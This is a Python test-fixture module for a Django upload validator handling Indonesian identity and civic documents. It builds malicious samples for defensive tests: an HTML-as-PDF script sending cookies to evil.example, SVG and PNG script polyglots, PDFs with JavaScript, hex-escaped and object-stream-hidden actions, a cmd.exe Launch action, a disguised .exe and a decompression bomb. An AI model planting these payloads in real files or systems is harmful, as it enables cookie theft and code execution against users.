"""Uploads built in memory, good and bad, for the upload, form, view and browser tests.

Each builder returns a fresh `SimpleUploadedFile` with the name and content type a
browser would send, so the claimed type is often a lie: only the bytes count.
"""

import io
import struct
import zipfile
import zlib

from PIL import Image, ImageDraw

from django.core.files.uploadedfile import SimpleUploadedFile

from applications.uploads import DEFAULT_MAX_BYTES

PDF = "application/pdf"
JPEG = "image/jpeg"
PNG = "image/png"

_PAGE_TEXT = b"BT /F1 24 Tf 72 760 Td (Surat Pengantar RT 004 / RW 002) Tj ET"


def good_pdf(
    size_bytes: int | None = None, *, name: str = "surat-pengantar-rt.pdf"
) -> SimpleUploadedFile:
    """A one-page A4 PDF that viewers open, padded with a comment to exactly
    `size_bytes` when given (1 MB for benchmarks, the limit for boundary tests)."""
    return SimpleUploadedFile(name, _padded_pdf(_page_objects(), size_bytes), PDF)


def good_png(*, name: str = "pas-foto-3x4.png") -> SimpleUploadedFile:
    """A small passport-style photo as PNG."""
    return SimpleUploadedFile(name, _photo_bytes("PNG"), PNG)


def good_jpeg(*, name: str = "ktp-el.jpg") -> SimpleUploadedFile:
    """A small photographed KTP-el as JPEG."""
    return SimpleUploadedFile(name, _photo_bytes("JPEG"), JPEG)


def phone_photo_mpo() -> SimpleUploadedFile:
    """A phone photo with an MPF depth frame: a valid JPEG that Pillow calls "MPO"."""
    front, depth = _photo(), _photo().convert("L").convert("RGB")
    buffer = io.BytesIO()
    front.save(buffer, "MPO", save_all=True, append_images=[depth])
    return SimpleUploadedFile("IMG_20250114_093012.jpg", buffer.getvalue(), JPEG)


def pdf_with_binary_stream() -> SimpleUploadedFile:
    """A good PDF with an image stream whose bytes happen to spell "/JS" and
    "/Launch", as compressed scans sometimes do; nothing in it is an action."""
    pixels = (b"\x00\x11/JS\n\x7f/Launch \x80/JavaScript(" * 12)[: 16 * 20]
    image = (
        b"<< /Type /XObject /Subtype /Image /Width 16 /Height 20 /ColorSpace "
        b"/DeviceGray /BitsPerComponent 8 /Length %d >>\nstream\n"
        % len(pixels)
        + pixels
        + b"\nendstream"
    )
    objects = _page_objects(xobject=6)
    objects.append(image)
    return SimpleUploadedFile("kartu-keluarga-scan.pdf", _padded_pdf(objects), PDF)


def html_renamed_pdf() -> SimpleUploadedFile:
    """An HTML page with a script, renamed `.pdf` and claimed as a PDF."""
    content = (
        b"<!DOCTYPE html>\n<html><head><title>Surat Pengantar</title></head>\n"
        b"<body><script>fetch('https://evil.example/?c=' + document.cookie)"
        b"</script></body></html>\n"
    )
    return SimpleUploadedFile("surat-pengantar.pdf", content, PDF)


def svg_with_script() -> SimpleUploadedFile:
    """An SVG "photo" that runs a script when a browser shows it inline."""
    content = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="300" height="400">'
        b'<rect width="300" height="400" fill="#ddd"/>'
        b"<script>alert(document.domain)</script></svg>\n"
    )
    return SimpleUploadedFile("pas-foto.svg", content, "image/svg+xml")


def zip_file() -> SimpleUploadedFile:
    """A Word document (DOCX, so a ZIP archive) instead of a PDF."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr("word/document.xml", "<w:document>Surat kuasa</w:document>")
    return SimpleUploadedFile(
        "surat-kuasa.docx",
        buffer.getvalue(),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    )


def gif_file() -> SimpleUploadedFile:
    """A GIF photo: a real image, but not an accepted type."""
    buffer = io.BytesIO()
    _photo().convert("P").save(buffer, "GIF")
    return SimpleUploadedFile("pas-foto.gif", buffer.getvalue(), "image/gif")


def exe_file() -> SimpleUploadedFile:
    """A Windows program (MZ header) named like a scan."""
    content = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 54 + b"PE\x00\x00"
    return SimpleUploadedFile("scan-ktp.pdf.exe", content, "application/x-msdownload")


def text_file() -> SimpleUploadedFile:
    """Plain text typed instead of scanned."""
    content = b"NIK: 2171xxxxxxxxxxxx\nNama: Siti Aminah\n"
    return SimpleUploadedFile("ktp.txt", content, "text/plain")


def empty_file() -> SimpleUploadedFile:
    """A zero-byte file, as a failed phone upload leaves."""
    return SimpleUploadedFile("ktp-el.pdf", b"", PDF)


def oversize_pdf(limit: int = DEFAULT_MAX_BYTES) -> SimpleUploadedFile:
    """A valid PDF one byte over `limit`, like a scan at 600 dpi."""
    return good_pdf(size_bytes=limit + 1, name="kartu-keluarga-600dpi.pdf")


def truncated_pdf() -> SimpleUploadedFile:
    """A 200 kB PDF whose upload stopped halfway: no trailer, no `%%EOF`."""
    content = _padded_pdf(_page_objects(), 200_000)
    return SimpleUploadedFile("akta-kelahiran.pdf", content[:100_000], PDF)


def pdf_with_javascript() -> SimpleUploadedFile:
    """A PDF that runs JavaScript when opened (`/OpenAction` of `/S /JavaScript`)."""
    action = b"<< /Type /Action /S /JavaScript /JS (app.alert\\('MPP'\\);) >>"
    return _pdf_opening(action, name="surat-pengantar.pdf")


def pdf_with_hex_escaped_javascript() -> SimpleUploadedFile:
    """The JavaScript action with its names hex-escaped (`/J#53` is `/JS`)."""
    action = b"<< /Type /Action /S /Java#53cript /J#53 (app.alert\\(1\\);) >>"
    return _pdf_opening(action, name="surat-pernyataan.pdf")


def pdf_with_launch_action() -> SimpleUploadedFile:
    """A PDF that asks the viewer to start a program when opened."""
    action = b"<< /Type /Action /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"
    return _pdf_opening(action, name="npwp.pdf")


def pdf_with_javascript_in_object_stream() -> SimpleUploadedFile:
    """A PDF 1.5 whose JavaScript action sits in a compressed object stream, where a
    search of the raw bytes cannot see it."""
    action = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\);) >>"
    header = b"7 0 "
    packed = zlib.compress(header + action)
    object_stream = (
        b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\n"
        % (len(header), len(packed))
        + b"stream\n"
        + packed
        + b"\nendstream"
    )
    objects = _page_objects(open_action=7)
    objects.append(object_stream)
    return SimpleUploadedFile("ijazah.pdf", _padded_pdf(objects), PDF)


def png_header_garbage() -> SimpleUploadedFile:
    """PNG magic bytes followed by junk: a polyglot or a corrupted photo."""
    content = b"\x89PNG\r\n\x1a\n" + b"<script>alert(1)</script>" * 20
    return SimpleUploadedFile("pas-foto.png", content, PNG)


def truncated_jpeg() -> SimpleUploadedFile:
    """A JPEG photo cut off halfway; its header alone looks fine."""
    content = _photo_bytes("JPEG")
    return SimpleUploadedFile("ktp-el.jpg", content[: len(content) // 2], JPEG)


def png_decompression_bomb(
    width: int = 8_000, height: int = 8_000
) -> SimpleUploadedFile:
    """A valid black 1-bit PNG of `width` × `height` pixels: a few kB on disk, about
    200 MB once decoded to RGB. 8000 × 8000 is 64 megapixels, under Pillow's own
    warning limit; 20000 × 20000 trips Pillow's DecompressionBombError."""
    row = b"\x00" * (1 + (width + 7) // 8)  # filter byte, then the packed pixels
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    content = (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
        + _png_chunk(b"IDAT", data)
        + _png_chunk(b"IEND", b"")
    )
    return SimpleUploadedFile("pas-foto.png", content, PNG)


def _photo() -> Image.Image:
    image = Image.linear_gradient("L").resize((120, 160)).convert("RGB")
    draw = ImageDraw.Draw(image)
    draw.ellipse((30, 25, 90, 95), fill=(224, 172, 105))
    draw.rectangle((20, 110, 100, 160), fill=(30, 60, 140))
    return image


def _photo_bytes(image_format: str) -> bytes:
    buffer = io.BytesIO()
    _photo().save(buffer, image_format)
    return buffer.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    crc = zlib.crc32(kind + data)
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)


def _page_objects(
    *, open_action: int | None = None, xobject: int | None = None
) -> list[bytes]:
    """Objects 1-5 of a one-page PDF: catalog, pages, page, font, content."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R"
    if open_action is not None:
        catalog += b" /OpenAction %d 0 R" % open_action
    resources = b"/Font << /F1 4 0 R >>"
    if xobject is not None:
        resources += b" /XObject << /Im1 %d 0 R >>" % xobject
    return [
        catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        b"/Resources << " + resources + b" >> /Contents 5 0 R >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Length %d >>\nstream\n" % len(_PAGE_TEXT) + _PAGE_TEXT + b"\nendstream",
    ]


def _pdf_opening(action: bytes, *, name: str) -> SimpleUploadedFile:
    objects = _page_objects(open_action=6)
    objects.append(action)
    return SimpleUploadedFile(name, _padded_pdf(objects), PDF)


def _padded_pdf(objects: list[bytes], size_bytes: int | None = None) -> bytes:
    if size_bytes is None:
        return _pdf(objects, padding=0)
    padding = size_bytes - len(_pdf(objects, padding=0))
    # The startxref offset gains digits as the padding grows; settle on the size.
    while padding >= 0 and len(_pdf(objects, padding=padding)) != size_bytes:
        padding += size_bytes - len(_pdf(objects, padding=padding))
    if padding < 0:
        raise ValueError(f"A PDF cannot be as small as {size_bytes} bytes.")
    return _pdf(objects, padding=padding)


def _pdf(objects: list[bytes], *, padding: int) -> bytes:
    """A PDF with a correct cross-reference table and `padding` bytes of comments
    after the header."""
    body = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    body += _comment_lines(padding)
    offsets = []
    for number, content in enumerate(objects, start=1):
        offsets.append(len(body))
        body += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    xref_offset = len(body)
    body += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    body += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    body += b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(objects) + 1)
    body += b"startxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(body)


def _comment_lines(size: int) -> bytes:
    """`size` bytes of PDF comment lines of at most 80 bytes each."""
    full, rest = divmod(size, 80)
    lines = [b"%" + b"-" * 78 + b"\n"] * full
    if rest == 1:
        lines.append(b"\n")
    elif rest:
        lines.append(b"%" + b"-" * (rest - 2) + b"\n")
    return b"".join(lines)
